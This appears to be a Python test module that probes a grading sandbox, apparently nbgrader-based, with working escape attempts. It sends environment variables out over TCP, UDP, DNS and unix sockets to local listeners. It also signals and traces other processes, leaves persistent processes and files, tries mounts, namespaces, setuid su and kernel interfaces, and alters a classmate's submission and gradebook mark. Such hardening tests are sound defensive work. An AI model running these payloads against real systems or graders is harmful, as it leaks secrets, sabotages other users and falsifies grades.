"""The network, other processes, anything that outlives the submission."""

from collections.abc import Callable
from typing import Any

from attack import WRITE_MARKS, Attack, connected, said, signalled
from outcome import TARGET, Outcome

_TRY = """\
def attempt(action):
    try:
        return action()
    except Exception:
        pass
"""


def _reaching(
    name: str, wants: str, code: str, success: Callable[[Outcome], bool], **more: Any
) -> Attack:
    return Attack(name, "reaching out", wants, success, {"clamp": _TRY + code}, **more)


_PAYLOAD = "('@MARK@ ' + ' '.join(map(str, os.environ.values()))).encode()[:2000]"

REACHING: list[Attack] = [
    _reaching(
        "tcp",
        "a TCP connection",
        "import socket\n"
        "def call():\n"
        "    with socket.create_connection(('127.0.0.1', @TCP@), 2) as line:\n"
        f"        line.send({_PAYLOAD})\n"
        "attempt(call)",
        connected("tcp"),
    ),
    _reaching(
        "tcp-from-a-child",
        "a TCP connection from a program that it starts",
        """\
import subprocess
code = "import socket; socket.create_connection(('127.0.0.1', @TCP@), 2).send(b'@MARK@')"
attempt(lambda: subprocess.run([sys.executable, '-c', code], timeout=4))""",
        connected("tcp"),
    ),
    _reaching(
        "http-during-a-test",
        "a web request made while a hidden test calls its function",
        """\
import urllib.request, urllib.parse
def clamp(*args):
    told = urllib.parse.quote('@MARK@ ' + repr(args))
    attempt(lambda: urllib.request.urlopen(
        'http://127.0.0.1:@TCP@/' + told, timeout=2))""",
        connected("tcp"),
    ),
    _reaching(
        "udp",
        "a UDP datagram",
        "import socket\n"
        "attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(\n"
        f"    {_PAYLOAD}, ('127.0.0.1', @UDP@)))",
        connected("udp"),
    ),
    _reaching(
        "dns",
        "a DNS query that carries what it knows, to a name server on this machine",
        """\
import socket, struct
name = b''.join(bytes([len(p)]) + p for p in (b'@MARK@', b'example')) + b'\\0'
query = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + name + struct.pack('>2H', 1, 1)
def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.connect(('127.0.0.1', @UDP@))
        line.send(query)
attempt(ask)""",
        connected("udp"),
    ),
    _reaching(
        "unix-socket",
        "a connection to a server's unix socket",
        "import socket\n"
        "def call():\n"
        "    with socket.socket(socket.AF_UNIX) as line:\n"
        "        line.connect('@UNIX@')\n"
        f"        line.send({_PAYLOAD})\n"
        "attempt(call)",
        connected("unix"),
    ),
    _reaching(
        "abstract-socket",
        "a connection to a server's abstract socket",
        "import socket\n"
        "def call():\n"
        "    with socket.socket(socket.AF_UNIX) as line:\n"
        "        line.connect('\\0@TOKEN@')\n"
        f"        line.send({_PAYLOAD})\n"
        "attempt(call)",
        connected("abstract"),
    ),
    _reaching(
        "other-socket-families",
        "a raw, packet, netlink, VSOCK or IPv6 socket",
        """\
import socket
for family, form in ((17, 3), (2, 3), (16, 2), (40, 1), (10, 1), (38, 5)):
    try:
        socket.socket(family, form).close()
        loot(f'opened-family-{family}')
    except OSError:
        pass""",
        said("opened-family"),
    ),
    _reaching(
        "signal",
        "to signal a process that is not its own",
        """\
import signal
attempt(lambda: os.kill(@VICTIM@, signal.SIGUSR1))""",
        signalled(10),
    ),
    _reaching(
        "signal-by-pidfd",
        "to signal another process through a descriptor",
        """\
import signal
attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(@VICTIM@), signal.SIGUSR2))""",
        signalled(12),
    ),
    _reaching(
        "signal-by-owner",
        "to have the kernel signal another process, as owner of a descriptor",
        """\
import fcntl, signal, socket
def own():
    here, there = socket.socketpair()
    fcntl.fcntl(here, fcntl.F_SETOWN, @VICTIM@)
    fcntl.fcntl(here, 10, signal.SIGRTMIN + 4)
    fcntl.fcntl(here, fcntl.F_SETFL, fcntl.fcntl(here, fcntl.F_GETFL) | os.O_ASYNC)
    there.send(b'x')
attempt(own)""",
        signalled(38),
    ),
    _reaching(
        "slow-the-others",
        "to change the priority and the limits of another process",
        """\
import resource
attempt(lambda: os.setpriority(os.PRIO_PROCESS, @VICTIM@, 15))
attempt(lambda: resource.prlimit(@VICTIM@, resource.RLIMIT_NOFILE, (777, 777)))""",
        lambda outcome: outcome.world.victim_nice == 15 or outcome.world.victim_files == 777,
    ),
    _reaching(
        "ptrace",
        "to trace another process",
        """\
import ctypes, signal
libc = ctypes.CDLL(None)
if libc.ptrace(16, @VICTIM@, 0, 0) == 0:
    os.waitpid(@VICTIM@, 0x40000000)
    libc.ptrace(17, @VICTIM@, 0, 0)
    loot('traced-it')""",
        said("traced-it"),
    ),
    _reaching(
        "files-that-outlive",
        "a file that outlives the submission",
        """\
for folder in ('/tmp', '/var/tmp', '/dev/shm', '/run', '@BASE@', '@COURSE@', '@HOME@',
               '@COURSE@/source/exam', '@COURSE@/submitted/@HONEST@/exam',
               '@COURSE@/autograded/@HONEST@/exam', os.path.expanduser('~')):
    attempt(lambda: open(f'{folder}/@MARK@1', 'w').write('here'))
def clamp(*args):
    attempt(lambda: open('/tmp/@MARK@2', 'w').write(repr(args)))""",
        lambda outcome: outcome.left(),
    ),
    _reaching(
        "changed-course",
        "to change a classmate's submission or the next hidden tests",
        """\
import glob
for path in ('@COURSE@/nbgrader_config.py',
             '@COURSE@/submitted/@TARGET@/exam/exam.ipynb'):
    attempt(lambda: os.utime(path))
    attempt(lambda: open(path, 'a').write('\\n# @MARK@'))""",
        lambda outcome: (
            any("nbgrader_config" in path for path in outcome.world.changed)
            or any("submitted/theo" in path for path in outcome.world.changed)
        ),
    ),
    _reaching(
        "process-that-outlives",
        "a program that outlives the submission",
        """\
import subprocess
code = '''import os, sys, time
seen = os.path.exists(sys.argv[2])
for _ in range(1800):
    time.sleep(0.5)
    if seen and not os.path.exists(sys.argv[2]): break
'''
attempt(lambda: subprocess.Popen(
    ['setsid', '-f', sys.executable, '-c', code, '@MARK@', '@BASE@']).wait(3))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, ['python', '-c', code, '@MARK@', '@BASE@'])
    os._exit(0)""",
        lambda outcome: outcome.processes(),
    ),
    _reaching(
        "fork-that-outlives",
        "a copy of its process that outlives the submission, in a session of its own",
        """\
import ctypes, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b'@TOKEN@')
        for number in range(1, 65):
            attempt(lambda: signal.signal(number, signal.SIG_IGN))
        seen = os.path.exists('@BASE@')
        for _ in range(1800):
            time.sleep(0.5)
            if seen and not os.path.exists('@BASE@'):
                break
    os._exit(0)""",
        lambda outcome: outcome.world.token in outcome.world.processes,
    ),
    _reaching(
        "segment-that-outlives",
        "a System V shared memory segment that outlives the submission",
        """\
import ctypes, hashlib
key = int(hashlib.sha256(b'@TOKEN@-@NAME@').hexdigest()[:7], 16)
attempt(lambda: ctypes.CDLL(None).shmget(key, 4096, 0o1666))""",
        lambda outcome: outcome.segment(),
    ),
    _reaching(
        "mounts",
        "to mount a file system",
        """\
import ctypes
libc = ctypes.CDLL(None)
os.makedirs('mnt', exist_ok=True)
for kind in (b'tmpfs', b'proc', b'sysfs'):
    if libc.mount(b'none', b'mnt', kind, 0, None) == 0:
        libc.umount2(b'mnt', 2)
        loot('mounted-it')
if libc.mount(b'/', b'mnt', None, 4096, None) == 0:
    libc.umount2(b'mnt', 2)
    loot('mounted-it')""",
        said("mounted-it"),
    ),
    _reaching(
        "nested-namespaces",
        "namespaces of its own, where it would be root",
        """\
import ctypes
libc = ctypes.CDLL(None)
read, write = os.pipe()
for flags in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x10020000):
    child = os.fork()
    if child == 0:
        if libc.unshare(flags) == 0:
            os.write(write, b'nested-it ')
        os._exit(0)
    os.waitpid(child, 0)
os.close(write)
loot(os.read(read, 999).decode())""",
        said("nested-it"),
    ),
    _reaching(
        "setuid-binaries",
        "root, through a setuid program",
        """\
import glob, stat, subprocess, time
for path in ('/usr/bin/su', '/bin/su', '/usr/bin/passwd', '/usr/bin/mount'):
    try:
        if not os.stat(path).st_mode & stat.S_ISUID:
            continue
        arguments = [path, '-c', 'sleep 2'] if path.endswith('su') else [path]
        ran = subprocess.Popen(arguments, stdin=subprocess.PIPE,
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(0.3)
        status = open(f'/proc/{ran.pid}/status').read()
        if re.search(r'Uid:\\s+\\d+\\s+0\\s', status) and 'State:\\tZ' not in status:
            loot('ran-as-root ' + path)
        ran.kill()
    except OSError:
        pass""",
        said("ran-as-root"),
    ),
    _reaching(
        "devices-and-kernel",
        "a device node, or the kernel's own settings opened for writing",
        """\
import stat
def node():
    os.mknod('device', stat.S_IFCHR | 0o666, os.makedev(1, 3))
    os.close(os.open('device', os.O_RDONLY))
    os.unlink('device')
    loot('reached-the-kernel')
attempt(node)
for path in ('/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger', '/dev/kmsg',
             '/sys/kernel/uevent_helper', '/dev/vda', '/dev/mem'):
    def touch():
        os.close(os.open(path, os.O_WRONLY))
        loot('reached-the-kernel ' + path)
    attempt(touch)""",
        said("reached-the-kernel"),
    ),
    _reaching(
        "another-s-mark",
        "to change a classmate's mark in the gradebook",
        WRITE_MARKS.format(score=-7.25, who="@TARGET@"),
        lambda outcome: -7.25 in outcome.world.honest.get(TARGET, {}).values(),
    ),
]
